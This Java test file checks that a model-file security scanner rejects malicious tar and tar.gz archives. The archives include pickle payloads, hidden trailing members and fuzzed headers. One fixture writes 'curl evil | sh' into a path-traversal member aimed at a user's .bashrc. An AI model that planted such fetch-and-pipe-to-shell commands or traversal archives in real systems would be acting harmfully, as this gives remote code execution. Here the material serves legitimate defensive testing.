package io.airlock.scanner.engine;

import io.airlock.formats.FormatSniffer;

import io.airlock.formats.Format;
import io.airlock.fixtures.Samples;
import io.airlock.fixtures.TarBuilder;
import io.airlock.fixtures.ZipBuilder;

import io.airlock.contracts.Finding;
import io.airlock.contracts.Kind;
import io.airlock.contracts.StageResult;
import io.airlock.scanner.engine.analysis.FolderScan;
import io.airlock.scanner.engine.analysis.ImportTiers;
import io.airlock.scanner.engine.analysis.StaticScan;
import io.airlock.scanner.engine.analysis.StaticScanPolicy;
import io.airlock.formats.ByteSource;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Random;
import java.util.Set;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;

/** Tar and tar.gz archives in the static scan: members are found by content, archive tricks reject, nothing escapes as an exception. */
class TarScanTest {
    @TempDir
    Path dir;

    ScanReport scan(byte[] bytes) throws IOException {
        Path f = Files.write(dir.resolve("a.bin"), bytes);
        return new ScanEngine().scan(f, ScanOptions.defaults(Kind.MODEL), StageListener.NONE);
    }

    static List<String> rules(ScanReport r, String stage) {
        return r.stage(stage).orElseThrow().findings().stream().map(Finding::rule).toList();
    }

    @Test
    void aPickleInATarIsAnalysedWhateverItsNameAndContainer() throws IOException {
        byte[] tar = TarBuilder.tar().file("repo/config.json", "{}").file("repo/notes.txt", Samples.pickleProto4Reduce()).bytes();
        for (byte[] b : List.of(tar, TarBuilder.gzip(tar), ZipBuilder.zip().with("inner.tar", tar).bytes())) {
            ScanReport r = scan(b);
            assertThat(r.verdict()).isEqualTo(ScanVerdict.REJECT);
            StageResult st = r.stage(ScanEngine.STATIC_SCAN).orElseThrow();
            assertThat(st.findings()).filteredOn(f -> f.rule().equals("pickle.dangerous_import"))
                    .isNotEmpty().allMatch(f -> f.location().contains("repo/notes.txt"));
        }
    }

    @Test
    void aTarGzIsInflatedOnceForEveryStageAndItsBodyIsDeletedAfterTheScan() throws IOException {
        byte[] tar = Folders.pack(Folders.sharded(), Folders.Container.TAR);
        Path tmp = Path.of(System.getProperty("java.io.tmpdir"));
        long before = spooled(tmp);
        ScanReport r = scan(Folders.pack(Folders.sharded(), Folders.Container.TGZ));
        assertThat(r.verdict()).isEqualTo(ScanVerdict.PASS);
        assertThat(r.format()).isEqualTo(Format.MODEL_FOLDER);
        assertThat(r.stage(ScanEngine.FORMAT_GATE).orElseThrow().details().get("gzipBody"))
                .startsWith("inflated once (" + tar.length + " bytes)");
        // the folder rules ran over the kept body: both shards validated
        assertThat(r.stage(ScanEngine.FOLDER_SCAN).orElseThrow().details()).containsEntry("folder.safetensorsValidated", "2");
        assertThat(spooled(tmp)).isEqualTo(before);
    }

    private static long spooled(Path tmp) throws IOException {
        try (java.util.stream.Stream<Path> s = Files.list(tmp)) {
            return s.filter(p -> p.getFileName().toString().endsWith(".gunzip")).count();
        }
    }

    @Test
    void archiveTricksInATarGzRejectAtTheStaticScan() throws IOException {
        byte[] traversal = TarBuilder.tar().file("config.json", "{}").file("../../home/u/.bashrc", "curl evil | sh\n").gzipped();
        ScanReport r = scan(traversal);
        assertThat(r.verdict()).isEqualTo(ScanVerdict.REJECT);
        assertThat(rules(r, ScanEngine.STATIC_SCAN)).contains("tar.path_traversal");

        // a member after the end marker, which 'tar --ignore-zeros' extracts and a naive reader never sees
        byte[] honest = TarBuilder.tar().file("config.json", "{}").file("model.safetensors", Folders.safetensors("w")).bytes();
        byte[] hidden = TarScanTest.concat(honest, TarBuilder.tar().file("evil.pkl", Samples.pickleProto4Reduce()).bytes());
        ScanReport h = scan(hidden);
        assertThat(h.verdict()).isEqualTo(ScanVerdict.REJECT);
        assertThat(rules(h, ScanEngine.STATIC_SCAN)).contains("tar.trailing_data");
    }

    @Test
    void aTarThatIsNoModelFolderIsNotAllowedButStillAnalysed() throws IOException {
        ScanReport r = scan(TarBuilder.tar().file("a.txt", "hello").file("b.pkl", Samples.pickleProto2()).bytes());
        assertThat(r.format()).isEqualTo(Format.TAR);
        assertThat(rules(r, ScanEngine.FORMAT_GATE)).containsExactly("format.not_allowed");
        assertThat(r.stage(ScanEngine.FORMAT_GATE).orElseThrow().details().get("evidence")).contains("no model folder kind");
        assertThat(rules(r, ScanEngine.STATIC_SCAN)).contains("tar.pickle_member");
    }

    @Test
    void mutatedFolderArchivesNeverEscapeAsExceptions() {
        StaticScanPolicy policy = StaticScanPolicy.defaults();
        StaticScan statics = new StaticScan(ImportTiers.builtin(), policy);
        FolderScan folders = new FolderScan(policy);
        byte[] tar = Folders.pack(Folders.sharded(), Folders.Container.TAR);
        byte[] tgz = Folders.pack(Folders.diffusers(), Folders.Container.TGZ);
        byte[] zip = Folders.pack(Folders.hfRepository(), Folders.Container.ZIP);
        Random rnd = new Random(42);
        for (int i = 0; i < 600; i++) {
            byte[] base = i % 3 == 0 ? tar : i % 3 == 1 ? tgz : zip;
            byte[] m = mutate(base, rnd);
            assertThatCode(() -> {
                ByteSource src = ByteSource.of(m);
                Format sniffed = FormatSniffer.sniff(m, m.length).format();
                folders.recognise(src, sniffed);
                statics.scan(src, Format.MODEL_FOLDER);
                folders.scan(src, Format.MODEL_FOLDER, Set.of(Format.PICKLE));
            }).as("mutation %d", i).doesNotThrowAnyException();
        }
    }

    static byte[] mutate(byte[] b, Random rnd) {
        byte[] m = b.clone();
        switch (rnd.nextInt(4)) {
            case 0 -> {
                for (int k = 0; k < 1 + rnd.nextInt(8); k++) {
                    m[rnd.nextInt(m.length)] ^= (byte) (1 << rnd.nextInt(8));
                }
            }
            case 1 -> m = java.util.Arrays.copyOf(m, rnd.nextInt(m.length));
            case 2 -> {
                // a size field rewritten: octal digits where a tar header's size is, anywhere else for a zip
                int at = (rnd.nextInt(Math.max(1, m.length / 512)) * 512) + 124;
                if (at + 11 < m.length) {
                    byte[] digits = String.format("%011o", rnd.nextLong() & 0x7fffffffffL).getBytes();
                    System.arraycopy(digits, 0, m, at, 11);
                }
            }
            default -> {
                int at = rnd.nextInt(m.length);
                m[at] = (byte) rnd.nextInt(256);
            }
        }
        return m;
    }

    static byte[] concat(byte[]... parts) {
        return Samples.concat(parts);
    }
}
